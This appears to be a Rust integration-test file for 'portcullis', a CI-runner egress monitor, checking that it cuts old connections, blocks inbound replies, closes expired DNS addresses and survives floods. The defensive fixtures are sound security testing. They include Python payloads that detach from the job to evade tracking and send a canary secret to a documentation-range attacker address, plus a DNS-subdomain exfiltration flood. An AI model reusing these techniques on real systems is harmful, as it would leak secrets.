//! Attacks on what outlives a moment: old connections, connections from outside, expired addresses, exhaustion.

mod life;

use anyhow::{Context, Result, ensure};
use life::{
    BLOCK, Gate, Puppet, assert_gapless, assert_nothing_left, call, detections, dns, network,
    wait_gone,
};
use portcullis_common::event::{DetectionType, Direction, RecordedDetection, Verdict};
use portcullis_tests::job::StepKind;
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::world::network::{RUNNER_V4, RUNNER_V6};
use portcullis_tests::{Canary, Job, JobOutcome, World, wait_for, wait_until};
use std::fs;
use std::io::Read;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

/// A daemon with open flows to the attacker, which sends the file `secret` once that is there.
const SLEEPER: &str = r#"
import os, socket, sys, time
place, family, address = sys.argv[1], socket.AF_INET, "203.0.113.66"
if sys.argv[2] == "6":
    family, address = socket.AF_INET6, "2001:db8::66"
tcp = socket.create_connection((address, 4444)); tcp.sendall(b"here I am")
udp = socket.socket(family, socket.SOCK_DGRAM); udp.connect((address, 4445)); udp.send(b"here I am")
udp.settimeout(20); udp.recv(100)
print(os.getpid(), flush=True)
while not os.path.exists(place + "/secret"):
    time.sleep(0.02)
secret = open(place + "/secret", "rb").read()
for s in (tcp, udp) * 20:
    try:
        s.send(secret)
    except OSError:
        pass
    time.sleep(0.02)
open(place + "/sent." + sys.argv[2], "w")
"#;

/// S1: what a job left behind when no gate was up has open connections. The twin: the job's own calls, and the runner's
/// long poll, which is older than the job too.
#[test]
fn old_flows_are_cut_and_left_overs_are_killed() -> Result<()> {
    let world = World::builder().build()?;
    let place = tempfile::Builder::new().prefix("place-").tempdir_in(world.directory())?.keep();
    let uid = world.runner(0).uid();
    std::os::unix::fs::chown(&place, Some(uid), Some(uid))?;
    fs::write(place.join("sleeper.py"), SLEEPER)?;
    let at = place.display();
    // Hooks that do nothing yet: the Listener reads their paths once, and starting it anew would end what is left.
    world.install_hooks()?;
    let hooks = ["pre-job", "post-job"]
        .map(|name| world.root().join(format!("opt/portcullis/hooks/{name}.sh")));
    let real = hooks.each_ref().map(fs::read_to_string);
    for hook in &hooks {
        fs::write(hook, "exit 0\n")?;
    }
    // One that can be told by its environment, and one that hides.
    let result = world.runner(0).run(&Job::script(&format!(
        "RUNNER_TRACKING_ID=other setsid --fork python3 {at}/sleeper.py {at} 4 >{at}/pid.4 2>&1 </dev/null
         env -i setsid --fork /usr/bin/python3 {at}/sleeper.py {at} 6 >{at}/pid.6 2>&1 </dev/null
         until [ -s {at}/pid.4 ] && [ -s {at}/pid.6 ]; do sleep 0.05; done"
    )))?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let pid = |which: &str| -> Result<u32> {
        Ok(fs::read_to_string(place.join(format!("pid.{which}")))?.trim().parse()?)
    };
    let (told, hidden) = (pid("4")?, pid("6")?);
    let before = world.attacker().streams().len();
    assert_eq!(before, 2, "the connections are there before the gate");

    for (hook, text) in hooks.iter().zip(real) {
        fs::write(hook, text?)?;
    }
    world.write_policy("block", BLOCK)?;
    let monitor = world.monitor(MonitorOptions::default())?;
    let gate = Gate { world, monitor, canary: Canary::generate()? };
    let poll = gate.world.github().long_poll_round_trip(gate.world.runner(0).name())?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    wait_gone(told)?;
    fs::write(place.join("secret"), gate.canary.as_str())?;
    wait_until("the hidden one to have sent", || place.join("sent.6").exists())?;
    let twin = puppet.run(&call("ok.test"))?;
    ensure!(twin.succeeded(), "{twin:?}");
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert!(!gate.world.attacker().saw(&gate.canary)?, "{}", result.log());
    assert_eq!(gate.world.github().long_poll_round_trip(gate.world.runner(0).name())?, poll, "cut");
    let events = gate.last_events()?;
    let left_over = detections(&events).any(|event| {
        event.detection == DetectionType::Recorded(RecordedDetection::LeftOverProcess)
            && event.evidence.contains(&told.to_string())
    });
    assert!(left_over, "{events:#?}");
    for port in [4444, 4445] {
        let blocked = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.port == Some(port)
                && event.process.as_ref().and_then(|process| process.pid) == Some(hidden)
        });
        assert!(blocked, "{port}: {events:#?}");
    }
    Ok(())
}

/// A server in the job that gives the secret to whoever calls, by TCP and UDP, IPv4 and IPv6.
const GIVER: &str = r#"
cat >"$RUNNER_TEMP/giver.py" <<'END'
import os, socket, threading
secret = os.environ["S"].encode()
def tcp(s):
    while True:
        c, _ = s.accept(); c.sendall(secret); c.close()
def udp(s):
    while True:
        _, peer = s.recvfrom(100)
        try:
            s.sendto(secret, peer)
        except OSError:
            pass
for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
    s = socket.socket(family); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u = socket.socket(family, socket.SOCK_DGRAM)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1); u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((address, 8000)); s.listen(); u.bind((address, 8001))
    threading.Thread(target=tcp, args=(s,)).start(); threading.Thread(target=udp, args=(u,)).start()
open(os.environ["PUPPET"] + "/ready", "w")
END
python3 "$RUNNER_TEMP/giver.py" & giver=$!
until [ -e "$PUPPET/ready" ]; do sleep 0.02; done
for host in 127.0.0.1 ::1; do
    python3 -c "import os, socket; assert socket.create_connection(('$host', 8000)).recv(100).decode() == os.environ['S']" || exit 1
done
"#;

fn fetch(from: &portcullis_tests::namespace::NetworkNamespace, to: SocketAddr) -> Result<String> {
    from.run(|| -> Result<String> {
        let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(1))?;
        stream.set_read_timeout(Some(Duration::from_secs(1)))?;
        let mut text = String::new();
        stream.read_to_string(&mut text)?;
        Ok(text)
    })?
}

/// S2: replies are not a way out. The twins: loopback, and a service of the machine that is no job's.
#[test]
fn connections_from_outside_get_nothing() -> Result<()> {
    let world = World::builder().build()?;
    let (unit, unit_cgroup) = world.create_unit("sshd")?;
    world.write_configuration(&format!("[infrastructure]\nunits = [\"{unit}\"]\n"))?;
    let service = r#"
import socket
s = socket.create_server(("0.0.0.0", 22))
while True:
    c, _ = s.accept(); c.sendall(b"SSH-2.0-test\r\n"); c.close()
"#;
    let _service = world.command("python3").args(["-c", service]).cgroup(&unit_cgroup).spawn(
        std::process::Stdio::null(),
        std::process::Stdio::null(),
        std::process::Stdio::inherit(),
    )?;
    let service_address = SocketAddr::from((RUNNER_V4, 22));
    wait_until("the service", || fetch(world.internet(), service_address).is_ok())?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let ready = puppet.run(GIVER)?;
    ensure!(ready.succeeded(), "loopback works: {ready:?}");

    let attacker = gate.world.attacker().namespace();
    for address in [SocketAddr::from((RUNNER_V4, 8000)), SocketAddr::from((RUNNER_V6, 8000))] {
        let answer = fetch(attacker, address);
        ensure!(answer.is_err(), "{address}: {answer:?}");
        let local: SocketAddr = if address.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" }.parse()?;
        let answer = attacker.run(|| -> Result<usize> {
            let socket = UdpSocket::bind(local)?;
            socket.set_read_timeout(Some(Duration::from_millis(500)))?;
            socket.send_to(b"give", SocketAddr::new(address.ip(), 8001))?;
            Ok(socket.recv(&mut [0; 100])?)
        })?;
        ensure!(answer.is_err(), "{address}: {answer:?}");
    }
    assert_eq!(fetch(gate.world.internet(), service_address)?, "SSH-2.0-test\r\n");
    let twin = puppet.run(&call("ok.test"))?;
    ensure!(twin.succeeded(), "{twin:?}");
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert!(!gate.world.attacker().saw(&gate.canary)?, "{}", result.log());
    let events = gate.last_events()?;
    assert_gapless(&events);
    for port in [8000, 8001] {
        let inbound = network(&events).any(|event| {
            event.direction == Direction::Inbound
                && event.verdict == Verdict::Blocked
                && event.port == Some(port)
                && event.address.to_string() == "203.0.113.66"
        });
        assert!(inbound, "{port}: {events:#?}");
    }
    assert_nothing_left(&gate.world)
}

/// S5: many flows, many names, many processes. Caps deny and say so, and the job's own calls go on.
#[test]
fn exhaustion_is_bounded_and_told() -> Result<()> {
    let gate = Gate::up(World::builder().build()?, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let flood = puppet.run(
        r#"
python3 - <<'END'
import os, socket
secret = os.environ["S"].encode()
# Many flows: every datagram is one of its own.
for source in range(200):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port in range(1, 301):
        try:
            s.sendto(secret, ("203.0.113.%d" % (66 + source % 60), port))
        except OSError:
            pass
    s.close()
# Many names below the wildcard, with data in them.
refused = 0
for number in range(3000):
    try:
        socket.getaddrinfo("%s%d.wild.test" % (os.environ["S"][:20], number), 443, socket.AF_INET)
    except OSError:
        refused += 1
print("refused", refused)
END
for i in $(seq 3000); do /bin/true; done
"#,
    )?;
    let refused: u32 = flood
        .output
        .lines()
        .find_map(|line| line.strip_prefix("refused ")?.parse().ok())
        .with_context(|| format!("{flood:?}"))?;
    ensure!(refused > 0, "no budget stops names below a wildcard");
    let twin = puppet.run(&call("ok.test"))?;
    ensure!(twin.succeeded(), "{twin:?}");
    let resident = wait_for("the monitor's memory", || {
        let status = fs::read_to_string(format!("/proc/{}/status", gate.monitor.pid())).ok()?;
        let line = status.lines().find(|line| line.starts_with("VmRSS:"))?;
        line.split_whitespace().nth(1)?.parse::<u64>().ok()
    })?;
    // In KiB; a debug build is larger than what is delivered.
    ensure!(resident < 200 * 1024, "the monitor takes {resident} KiB");
    let result = puppet.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.monitor.wait_until_idle()?;
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    let exfiltration = detections(&events).any(|event| {
        event.detection == DetectionType::Recorded(RecordedDetection::DnsExfiltration)
    });
    assert!(exfiltration);
    assert!(dns(&events).any(|event| event.verdict == Verdict::Blocked));
    let report = gate.last_report()?;
    assert!(report.blocked > 0);
    let is_told = report.destinations_left_out > 0
        || report.posture.warnings.iter().any(|warning| warning.contains("have no event"));
    assert!(is_told, "{:#?}", report.posture);
    let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    assert!(hook.duration_ms < 20_000.0);
    assert_nothing_left(&gate.world)
}

/// Without a gate the sleeper and the giver give the secret away, so that the tests above can fail.
#[test]
fn without_a_gate_the_secret_gets_out() -> Result<()> {
    let world = World::builder().build()?;
    let canary = Canary::generate()?;
    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    let ready = puppet.run(GIVER)?;
    ensure!(ready.succeeded(), "{ready:?}");
    for address in [SocketAddr::from((RUNNER_V4, 8000)), SocketAddr::from((RUNNER_V6, 8000))] {
        assert_eq!(fetch(world.attacker().namespace(), address)?, canary.as_str());
    }
    puppet.run("kill -9 $giver")?;
    puppet.finish()?;
    assert!(world.attacker().saw(&canary)?);
    Ok(())
}

/// Speaks on a connection for four seconds, longer than the name's TTL, floor and grace together.
const USE: &str = r#"python3 - <<'END'
import socket, time
tenant = socket.create_connection(("tenant.test", 4444), 5)
for _ in range(20):
    tenant.sendall(b"in use ")
    time.sleep(0.2)
END
"#;

/// S3: an address whose name has expired was given to another tenant, here the attacker. The twins: a connection that is in
/// use goes on for as long as it is, and asking for the name opens its address again.
#[test]
fn an_address_closes_when_its_name_has_expired_and_nothing_uses_it() -> Result<()> {
    const TENANT: &str = "203.0.113.66";
    let world = World::builder().build()?;
    world.write_configuration("[dns]\ngrant-floor-seconds = 1\ngrant-grace-seconds = 1\n")?;
    world.dns().addresses_with_ttl("tenant.test", 1, &[TENANT])?;
    let policy = "name: tenants\negress-policy: block\nallowed-endpoints: [tenant.test:4444]\nattach:\n  - repository: octo/hello\n";
    let gate = Gate::up(world, &[("tenants", policy)])?;
    let mut job = Puppet::start(&gate, 0, "octo/hello")?;

    let used = job.run(USE)?;
    ensure!(used.succeeded(), "a connection in use was cut: {}", used.output);
    let rules = || gate.world.runner_network().tool("nft", &["list", "ruleset"], None);
    wait_until("the address to close", || rules().is_ok_and(|rules| !rules.contains(TENANT)))?;
    let connect = |to: &str, what: &str| {
        format!(
            "python3 -c 'import os, socket; socket.create_connection((\"{to}\", 4444), 5).sendall({what})'"
        )
    };
    let late = job.run(&connect(TENANT, "os.environ[\"S\"].encode()"))?;
    ensure!(!late.succeeded(), "an expired address could be called");
    let again = job.run(&connect("tenant.test", "b\"again\""))?;
    ensure!(again.succeeded(), "asking again did not open the address: {}", again.output);
    job.finish()?;

    gate.monitor.wait_until_idle()?;
    let events = gate.last_events()?;
    ensure!(life::blocked_by(&events, TENANT, 4444, "python3"), "the late call is not recorded");
    ensure!(!gate.world.attacker().saw(&gate.canary)?, "the secret reached the new tenant");
    assert_gapless(&events);
    Ok(())
}

/// S3 with a name that has moved: while the job goes on using it at its new address, the old one closes, for TCP and for
/// UDP, whose packets need no connection. The twin: the new address.
#[test]
fn an_address_that_its_name_has_left_closes() -> Result<()> {
    const OLD: &str = "203.0.113.66";
    const NEW: &str = "198.51.100.10";
    let world = World::builder().build()?;
    world.write_configuration("[dns]\ngrant-floor-seconds = 1\ngrant-grace-seconds = 1\n")?;
    world.dns().addresses_with_ttl("tenant.test", 1, &[OLD])?;
    let policy = "name: tenants\negress-policy: block\nallowed-endpoints: ['tenant.test:443', 'udp://tenant.test:443']\nattach:\n  - repository: octo/hello\n";
    let gate = Gate::up(world, &[("tenants", policy)])?;
    let mut job = Puppet::start(&gate, 0, "octo/hello")?;
    let datagram = |what: &str| {
        format!(
            "python3 -c 'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto({what}, (\"{OLD}\", 443))'"
        )
    };
    let first = job.run(&format!(
        "curl -ksS --max-time 5 -o /dev/null https://tenant.test/ && {}",
        datagram("b\"first\"")
    ))?;
    ensure!(first.succeeded(), "{first:?}\n{}", gate.monitor.log());

    gate.world.dns().addresses_with_ttl("tenant.test", 1, &[NEW])?;
    let rules = || gate.world.runner_network().tool("nft", &["list", "ruleset"], None);
    wait_until("the old address to close while the name is used", || {
        let used = job.run("curl -ksS --max-time 5 -o /dev/null https://tenant.test/");
        used.is_ok_and(|used| used.succeeded())
            && rules().is_ok_and(|rules| !rules.contains(OLD) && rules.contains(NEW))
    })?;
    let late = job.run(&format!("curl -ksS --max-time 2 https://{OLD}/$S"))?;
    ensure!(!late.succeeded(), "{late:?}");
    job.run(&datagram("os.environ[\"S\"].encode()"))?;
    let twin = job.run("curl -ksS --max-time 5 -o /dev/null https://tenant.test/")?;
    ensure!(twin.succeeded(), "{twin:?}");
    job.finish()?;
    gate.monitor.wait_until_idle()?;
    let events = gate.last_events()?;
    for protocol in ["tcp", "udp"] {
        let blocked = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.protocol == protocol
                && event.address.to_string() == OLD
                && event.process.is_some()
        });
        ensure!(blocked, "{protocol}: {events:#?}");
    }
    ensure!(!gate.world.attacker().saw(&gate.canary)?, "the secret reached the new tenant");
    assert_gapless(&events);
    Ok(())
}
